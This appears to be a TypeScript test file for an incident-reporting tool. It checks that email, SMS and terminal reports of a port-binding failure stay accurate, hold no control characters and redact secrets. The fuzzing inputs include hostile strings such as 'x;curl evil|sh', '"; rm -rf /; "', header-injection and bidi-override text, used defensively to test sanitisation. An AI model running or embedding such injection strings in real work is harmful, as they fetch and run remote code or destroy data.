import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { test } from 'node:test';
import fc from 'fast-check';
import { nodeFiles } from '../../lib/adapters/files.ts';
import type { Analysis } from '../../lib/model/analysis.ts';
import { renderEmail } from '../../lib/report/email.ts';
import { renderJson } from '../../lib/report/json.ts';
import { renderSms } from '../../lib/report/sms.ts';
import { renderTerminal } from '../../lib/report/terminal.ts';
import { gsm7, SMS_SEPTETS, septets } from '../../lib/text/gsm7.ts';
import { redact } from '../../lib/text/redact.ts';
import { analyzePaths } from '../../lib/use-cases/analyze.ts';
import { incident, incidents } from '../support/incidents.ts';

const first = async (name: string): Promise<Analysis> => {
  const { analyses } = await analyzePaths([incident(name).folder], nodeFiles);
  const [analysis] = analyses;
  assert.ok(analysis !== undefined);
  return analysis;
};

const context = {
  transition: 'opened',
  at: '2026-11-23T12:00:00.000Z',
  link: { url: 'https://x.example/a', until: '2026-11-30T12:00:00.000Z' },
} as const;
const CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

test('says in its first paragraphs what fails, who causes it, how sure that is, and what to do', async () => {
  const { subject, text } = renderEmail(await first('seed-ss'), context);
  assert.equal(subject, 'CRITICAL web-03: login cannot bind, python3 (pid 28429) leaks CLOSE_WAIT');
  const top = text.slice(0, text.indexOf('AT A GLANCE')).replaceAll(/\s+/g, ' ');
  assert.match(top, /login fails with "Address already in use", 69 times/);
  assert.match(top, /python3 \(pid 28429\) holds 1,000 connections to 10\.20\.8\.21:8080.*confidence high/);
  assert.match(top, /Do now: Restart python3 \(pid 28429\)/);
});

test('quotes only figures that the evidence holds', async () => {
  const { text } = renderEmail(await first('seed-ss'), context);
  // Counted by hand in the recording: 992 ports that only pid 28429 has, 8 shared with pgbouncer.
  assert.match(text.replaceAll(/\s+/g, ' '), /992 of 1,000 ports return/);
});

test('says of an unknown cause what is missing, and blames nobody', async () => {
  const { subject, text } = renderEmail(await first('mystery'), context);
  assert.match(subject, /cause unknown/);
  assert.match(text, /ss -tanp 'sport = :8080'/);
  assert.doesNotMatch(text, /Restart /);
});

test('wraps at 76 columns, but for commands and addresses', async () => {
  for (const { name } of incidents.filter(({ truth }) => truth.cause !== null)) {
    const { text } = renderEmail(await first(name), context);
    const long = text.split('\n').filter((line) => line.length > 76 && !line.includes('`') && !/^ {4}\S+, lines? /.test(line));
    assert.deepEqual(long, [], name);
  }
});

const hostile = fc.oneof(
  fc.constantFrom(
    'x;curl evil|sh',
    '=cmd()',
    '</script>',
    '\u001b[31mred',
    'a\r\nBcc: x',
    '\u202egnp',
    '"; rm -rf /; "',
    '漢字 😀',
    'password=hunter2',
  ),
  fc.string({ maxLength: 40 }),
);

test('keeps to its limits whatever a host calls its programs', async () => {
  const base = await first('seed-ss');
  fc.assert(
    fc.property(hostile, hostile, hostile, (command, app, error) => {
      const analysis: Analysis = {
        ...base,
        culprit: { pid: 1, command, peer: null, localPort: null, unit: null },
        summary: `${command} holds`,
        explanation: error,
        victims: base.victims.map((victim) => ({ ...victim, app, error })),
        evidence: [{ text: error, source: 's3://b/k', lines: [1, 2] }],
      };
      const { subject, text } = renderEmail(analysis, context);
      const sms = renderSms(analysis, context);
      assert.match(subject, /^[\x20-\x7e]{1,99}$/);
      assert.doesNotMatch(text, CONTROLS);
      assert.doesNotMatch(renderTerminal(analysis, { colour: false }), CONTROLS);
      assert.ok(septets(sms) <= SMS_SEPTETS && gsm7(sms) === sms, sms);
      assert.doesNotMatch(text + sms + subject, /hunter2/);
    }),
    { numRuns: 300 },
  );
});

test('offers only commands that a shell can parse', async () => {
  for (const { name } of incidents.filter(({ truth }) => truth.cause !== null)) {
    const { remedy } = await first(name);
    // The fix quotes lines of the program's own language beside commands.
    const sentences = [remedy.now, remedy.prevent, remedy.verify];
    const commands = sentences.flatMap((text) => [...text.matchAll(/`([^`]+)`/g)].map((match) => match[1] ?? ''));
    assert.ok(commands.length > 0, name);
    for (const command of commands) execFileSync('sh', ['-n', '-c', command]);
  }
});

test('prints the contract as JSON', async () => {
  const analysis: unknown = JSON.parse(renderJson(await first('seed-ss')));
  const fields = [
    'id',
    'host',
    'status',
    'severity',
    'cause',
    'mechanism',
    'side',
    'confidence',
    'culprit',
    'contributors',
    'resource',
    'victims',
    'openedAt',
    'updatedAt',
    'resolvedAt',
    'summary',
    'explanation',
    'evidence',
    'remedy',
    'ports',
    'hosts',
    'trend',
    'history',
    'setback',
    'outcome',
  ];
  assert.ok(typeof analysis === 'object' && analysis !== null);
  for (const field of fields) assert.ok(field in analysis, field);
});

test('hides secrets of well-known forms, and leaves ordinary text alone', () => {
  const secrets = [
    'password=hunter2',
    'Authorization: Bearer abcdefgh12345678',
    'AKIAIOSFODNN7EXAMPLE',
    'https://user:hunter2@db.example/x',
    'Cookie: sid=hunter2',
    'card 4111 1111 1111 1111',
    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcdef',
    '"api_key": "hunter2"',
    'java -jar app.jar --password hunter2 --port 80',
  ];
  for (const secret of secrets) assert.doesNotMatch(redact(secret), /hunter2|abcdefgh1234|AKIAIOSF|4111 1111|eyJhbGci/, secret);
  const ordinary = 'login failed user=1031 for 10.20.8.21:8080 at 2026-11-23T10:39:05.295Z, port 20000, session closed';
  assert.equal(redact(ordinary), ordinary);
});
